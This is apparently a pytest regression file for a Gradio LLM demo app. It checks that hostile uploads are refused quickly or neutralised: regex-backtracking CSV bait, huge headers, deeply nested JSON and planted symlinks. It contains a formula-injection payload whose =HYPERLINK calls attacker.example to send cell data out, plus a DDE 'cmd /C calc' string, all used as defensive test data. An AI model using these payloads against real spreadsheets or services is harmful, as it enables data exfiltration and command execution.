"""Issue 23's hostile files (rows 1, 2, 3, 7, 8 and 13), each through the running app, as a visitor's browser and
an API client send them, and through the command line: each gets a clear answer within a time bound, and for the
sniffer bait another visitor's request stays fast meanwhile."""

from __future__ import annotations

import csv
import json
import os
import secrets
import stat
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import httpx
import pytest
from gradio_client import Client, handle_file
from gradio_client.exceptions import AppError
from helpers import read_rows, write

from llm_demo.__main__ import main

ROOT = Path(__file__).resolve().parent.parent
ROLES = ("text", "label", "question", "context", "answer", "source", "reference")
ANSWER_SECONDS = 10  # a refusal comes at once; this leaves room for a busy machine (before: no answer in 60 s)
UNEXPECTED = "Something went wrong"  # what the app says about a bug instead of a clear message

SNIFFER_BAIT = ';"' * 32_768  # 64 KB: csv.Sniffer's regular expressions took minutes over it, holding the GIL
REPEATED_NAMES = ",".join(["a"] * 8_000) + "\n" + ",".join(["x"] * 8_000) + "\n"  # 16 KB
WIDE = ",".join(["text", "label", *(f"c{i}" for i in range(19_998))]) + "\n" + "good,positive\n" * 2_000  # 157 KB
DEEP_JSON = '{"text": ' + "[" * 100_000 + "]" * 100_000 + ', "label": "positive"}\n'
LINK = '=HYPERLINK("http://attacker.example/?"&A2,"x")'
TOO_WIDE = "columns; this deployment reads at most 200. Keep only the columns you need, or raise LLM_DEMO_MAX_COLUMNS."
TOO_DEEP = "nests lists or objects more than 64 levels deep"


def evaluate(client: Client, path: Path, **chosen: str) -> tuple[list, float]:
    """/evaluate of the sentiment model over `path`: its outputs and the seconds the request took."""
    started = time.perf_counter()
    outputs = client.predict(
        handle_file(str(path)),
        "sentiment",
        ["Tiny BERT sentiment"],
        *[chosen.get(role) for role in ROLES],
        api_name="/evaluate",
    )
    return outputs, time.perf_counter() - started


def refusal(client: Client, path: Path, **chosen: str) -> tuple[str, float]:
    """The message /evaluate answers `path` with, and how long it took."""
    started = time.perf_counter()
    with pytest.raises(AppError) as caught:
        evaluate(client, path, **chosen)
    return str(caught.value), time.perf_counter() - started


def page_event(app_url: str, name: str, path: Path, *rest: object, language: str = "en") -> tuple[dict, float]:
    """What the page does when a file is dropped on it (an event the public API does not offer): upload the file,
    join the queue for the event called `name`, read its stream until it completes. The last message, and the
    seconds from the upload on."""
    headers = {"Accept-Language": language}
    config = httpx.get(f"{app_url}config", timeout=30).json()
    event = next(dependency["id"] for dependency in config["dependencies"] if dependency.get("api_name") == name)
    started = time.perf_counter()
    with path.open("rb") as file:
        uploaded = httpx.post(f"{app_url}gradio_api/upload", files={"files": (path.name, file)}, timeout=60).json()
    data = [{"path": uploaded[0], "orig_name": path.name, "meta": {"_type": "gradio.FileData"}}, *rest]
    session = secrets.token_hex(8)
    joined = httpx.post(
        f"{app_url}gradio_api/queue/join",
        json={"data": data, "fn_index": event, "session_hash": session, "trigger_id": None, "event_data": None},
        headers=headers,
        timeout=60,
    )
    joined.raise_for_status()
    with httpx.stream(
        "GET", f"{app_url}gradio_api/queue/data", params={"session_hash": session}, headers=headers, timeout=120
    ) as stream:
        for line in stream.iter_lines():
            message = json.loads(line[len("data:") :]) if line.startswith("data:") else {}
            if message.get("msg") == "process_completed":
                return message, time.perf_counter() - started
    raise AssertionError(f"the stream of {name} ended without completing")


def page_refusal(app_url: str, name: str, path: Path, *rest: object, language: str = "en") -> tuple[str, float]:
    message, seconds = page_event(app_url, name, path, *rest, language=language)
    assert not message["success"], message
    return message["output"]["error"], seconds


def cli_refusal(tmp_path: Path, capsys, path: Path) -> tuple[str, float]:
    """`python -m llm_demo evaluate` over `path` (in this process): its one line on stderr, and the seconds."""
    capsys.readouterr()  # what the app's server thread logged so far
    started = time.perf_counter()
    code = main(
        ["evaluate", "--task", "sentiment", "--model", "Tiny BERT sentiment", "--csv", str(path)]
        + ["--out", str(tmp_path / "cli-out")]
    )
    seconds = time.perf_counter() - started
    # One line of the command's own; the app served in this process may log too (a visitor's refusal)
    lines = [line for line in capsys.readouterr().err.splitlines() if line.startswith("error:")]
    assert code == 2 and len(lines) == 1, lines
    assert not (tmp_path / "cli-out").exists()
    return lines[0], seconds


def refused_every_way(app_url: str, client: Client, tmp_path: Path, capsys, data: Path, expected: str, **chosen):
    """/evaluate, the page's preview of an upload and the command line each refuse `data` with a message holding
    `expected`, within ANSWER_SECONDS."""
    for way, (message, seconds) in {
        "/evaluate": refusal(client, data, **chosen),
        "the page's preview": page_refusal(app_url, "preview_file", data, "sentiment"),
        "the command line": cli_refusal(tmp_path, capsys, data),
    }.items():
        assert expected in message and UNEXPECTED not in message and seconds < ANSWER_SECONDS, (way, message, seconds)


@pytest.mark.parametrize(
    "cap, answer", [("200", TOO_WIDE), ("0", "has a header but no rows")], ids=["column cap", "no column cap"]
)
def test_sniffer_bait_is_answered_at_once_and_another_visitors_request_stays_fast(
    app_url, client, tmp_path, monkeypatch, cap, answer
):
    """Row 1: 64 KB of ;" uploaded. Before: neither the upload's request nor a /sentiment call alongside answered
    within 60 s (0.2 s alone). Without the column cap too: sniffing alone is quick."""
    monkeypatch.setenv("LLM_DEMO_MAX_COLUMNS", cap)  # the app (in this process) reads it per request
    bait = write(tmp_path, "bait.csv", SNIFFER_BAIT)
    visitor = Client(app_url, verbose=False)

    def sentiment_seconds() -> float:
        started = time.perf_counter()
        visitor.predict("What a lovely day", "Tiny BERT sentiment", api_name="/sentiment")
        return time.perf_counter() - started

    sentiment_seconds()  # the model is loaded
    alone = sorted(sentiment_seconds() for _ in range(5))[2]
    answers: list[tuple[str, str, float]] = []
    stop = threading.Event()

    def attack() -> None:
        while not stop.is_set():
            answers.append(("page", *page_refusal(app_url, "preview_file", bait, "sentiment")))
            answers.append(("api", *refusal(client, bait, text="text", label="label")))

    attacker = threading.Thread(target=attack, daemon=True)
    attacker.start()
    during = []
    while len(during) < 8 or not answers:
        during.append(sentiment_seconds())
        assert len(during) < 100 and attacker.is_alive()
    stop.set()
    attacker.join(2 * ANSWER_SECONDS)
    assert not attacker.is_alive()
    for way, message, seconds in answers:
        assert answer in message and seconds < ANSWER_SECONDS, (way, message, seconds)
    typical = sorted(during)[len(during) // 2]
    assert typical < alone + 1.0 and max(during) < alone + 3.0, (alone, during)
    print(
        f"\n/sentiment alone {alone:.3f} s; during {len(answers)} bait uploads: median {typical:.3f} s, "
        f"max {max(during):.3f} s; the bait answered in {max(seconds for *_, seconds in answers):.3f} s at most"
    )


def test_sniffer_bait_gets_one_clear_line_from_a_fresh_command_line_process(tiny, tmp_path):
    bait = write(tmp_path, "bait.csv", SNIFFER_BAIT)
    started = time.perf_counter()
    process = subprocess.run(
        [sys.executable, "-m", "llm_demo", "evaluate", "--task", "sentiment", "--model", "Tiny BERT sentiment"]
        + ["--csv", str(bait), "--out", str(tmp_path / "out")],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    seconds = time.perf_counter() - started
    assert process.returncode == 2 and TOO_WIDE in process.stderr and "Traceback" not in process.stderr
    assert seconds < 60  # the start of Python and the imports included


def test_thousands_of_repeated_column_names_are_answered_at_once(app_url, client, tmp_path, capsys, monkeypatch):
    """Row 2: a header of 8,000 times `a` (16 KB). Before: renaming repeats was cubic, no answer within 60 s."""
    data = write(tmp_path, "repeats.csv", REPEATED_NAMES)
    refused_every_way(app_url, client, tmp_path, capsys, data, "'repeats.csv' has 8,000 " + TOO_WIDE, text="a")
    monkeypatch.setenv("LLM_DEMO_MAX_COLUMNS", "0")  # no cap: the app (in this process) reads it per request
    message, seconds = page_event(app_url, "preview_file", data, "sentiment")
    assert message["success"] and seconds < ANSWER_SECONDS, (message.get("output"), seconds)
    text_picker = message["output"]["data"][4]  # the column pickers offer every column, renamed in one pass
    assert [choice[0] for choice in text_picker["choices"][-3:]] == ["a_7998", "a_7999", "a_8000"]
    (status, *_), seconds = evaluate(client, data, text="a", label="a_2")
    assert status.startswith("Finished: 1 rows, 1 model(s).") and seconds < 60, (status, seconds)


def test_a_table_wider_than_the_column_cap_is_refused_before_any_row_is_padded(
    app_url, client, tmp_path, capsys, registry
):
    """Row 3: 20,000 columns over 2,000 short rows (157 KB). Before: each row padded to 20,000 cells, and a
    predictions.csv of 40 MB (256 times the upload) written."""
    data = write(tmp_path, "wide.csv", WIDE)
    refused_every_way(app_url, client, tmp_path, capsys, data, "'wide.csv' has 20,000 " + TOO_WIDE, text="text")
    message, seconds = page_refusal(app_url, "columns_of", data)  # the fine-tuning tab's page reads it too
    assert "'wide.csv' has 20,000 " + TOO_WIDE in message and seconds < ANSWER_SECONDS, (message, seconds)
    chinese, _ = page_refusal(app_url, "preview_file", data, "sentiment", language="zh-CN")
    assert chinese == "“wide.csv”有 20,000 列；本部署最多读取 200 列。请只保留需要的列，或调高 LLM_DEMO_MAX_COLUMNS。"
    started = time.perf_counter()
    with pytest.raises(AppError, match="has 20,000 " + TOO_WIDE):
        client.predict(
            handle_file(str(data)), "text", "label", registry.choices("sentiment")[0], "hostile", api_name="/finetune"
        )
    assert time.perf_counter() - started < ANSWER_SECONDS
    header = ",".join(["text", "label", *(f"c{i}" for i in range(198))])  # 200 columns: as many as allowed
    at_cap = write(tmp_path, "at_cap.csv", header + "\n" + "good,positive\n" * 20)
    (status, *_, files, _, _, _, _, _, _), _ = evaluate(client, at_cap, text="text", label="label")
    rows = read_rows(next(path for path in files if path.endswith("predictions.csv")))
    assert status.startswith("Finished: 20 rows") and len(rows) == 20 and len(rows[0]) == 200 + 3


def test_json_nested_100000_deep_gets_a_clear_message_not_an_unexpected_error(app_url, client, tmp_path, capsys):
    """Row 7: one JSON Lines row nested 100,000 deep. Before: RecursionError, "unexpected error" and a traceback."""
    data = write(tmp_path, "deep.jsonl", DEEP_JSON)
    refused_every_way(app_url, client, tmp_path, capsys, data, "Line 1 of 'deep.jsonl' " + TOO_DEEP, text="text")
    chinese, _ = page_refusal(app_url, "preview_file", data, "sentiment", language="zh-CN")
    assert chinese == "“deep.jsonl”第 1 行的列表或对象嵌套超过 64 层；请把该值展平。"


INJECTION = [
    ["text", "label", LINK],
    ["x;=cmd|' /C calc'!A0 good", "-1", "+3.5"],
    ["@SUM(1+1) bad", "positive", "-x"],
]


def check_neutralised(predictions: Path) -> None:
    """Header and cells escaped, every field quoted, numbers kept."""
    text = predictions.read_text(encoding="utf-8-sig")
    lines = text.splitlines()
    assert lines[0].startswith('"text","label","\'=HYPERLINK(""http://attacker.example/?""&A2,""x"")"')
    assert lines[1].startswith('"x;=cmd|\' /C calc\'!A0 good","-1","+3.5",')
    assert lines[2].startswith('"\'@SUM(1+1) bad","positive","\'-x",')
    assert all(line.startswith('"') and line.endswith('"') for line in lines)
    for separator in ",;":  # Excel's list separator in English and in many other locales
        cells = [cell for row in csv.reader(lines, delimiter=separator) for cell in row]
        assert not any(cell.startswith(("=", "@", "-x")) for cell in cells), separator


def test_predictions_csv_neutralises_formulas_in_its_header_and_cells(client, tmp_path, capsys):
    """Row 8: a column named =HYPERLINK(...), a cell x;=cmd|..., a label -1. Before: the header written as is,
    cells unquoted (split at ; where that is Excel's list separator), and -1 written as '-1."""
    data = tmp_path / "injection.csv"
    with data.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(INJECTION)
    (status, *_, files, _, _, _, _, _, _), seconds = evaluate(client, data, text="text", label="label")
    assert status.startswith("Finished: 2 rows") and seconds < 60
    check_neutralised(Path(next(path for path in files if path.endswith("predictions.csv"))))
    assert (
        main(
            ["evaluate", "--task", "sentiment", "--model", "Tiny BERT sentiment", "--csv", str(data)]
            + ["--out", str(tmp_path / "out")]
        )
        == 0
    )
    check_neutralised(tmp_path / "out" / "predictions.csv")


def test_run_folders_are_private_and_a_planted_link_is_never_written_through(client, tmp_path, capsys):
    """Row 13: another local user plants links where the app writes. Before: one shared folder of predictable
    names (llm_demo-downloads/evaluation-<key>), default permissions, and writes that followed links."""
    from llm_demo.ui import common

    victim = write(tmp_path, "victim.txt", "precious\n")
    shared = Path(tempfile.gettempdir()) / "llm_demo-downloads"  # where the app wrote before
    before = sorted(shared.rglob("*")) if shared.exists() else None
    data = write(tmp_path, "reviews.csv", "text,label\ngood,positive\nbad,negative\n")
    (status, *_), _ = evaluate(client, data, text="text", label="label")
    assert status.startswith("Finished: 2 rows")
    parent = common._downloads_parent()
    run = max(parent.glob("evaluation-*"), key=lambda folder: folder.stat().st_mtime)
    assert parent.parent == Path(tempfile.gettempdir()) and parent.name != "llm_demo-downloads"
    assert parent.stat().st_uid == os.getuid() and stat.S_IMODE(parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(run.stat().st_mode) == 0o700
    assert (sorted(shared.rglob("*")) if shared.exists() else None) == before
    for name in ("predictions.csv", "metrics.json", "report.html", "state.json"):
        (run / name).unlink()
        (run / name).symlink_to(victim)  # as if someone could enter the folder: the same run again
    (status, *_), _ = evaluate(client, data, text="text", label="label")
    assert status.startswith("Finished: 2 rows") and victim.read_text() == "precious\n"
    assert not any(path.is_symlink() for path in run.iterdir())
    out = tmp_path / "out"  # the command line writes where it is told: links there are not followed either
    out.mkdir()
    for name in ("predictions.csv", "metrics.json", "report.html", "state.json.tmp"):
        (out / name).symlink_to(victim)
    assert (
        main(
            ["evaluate", "--task", "sentiment", "--model", "Tiny BERT sentiment", "--csv", str(data)]
            + ["--out", str(out)]
        )
        == 0
    )
    assert victim.read_text() == "precious\n" and not any(path.is_symlink() for path in out.iterdir())
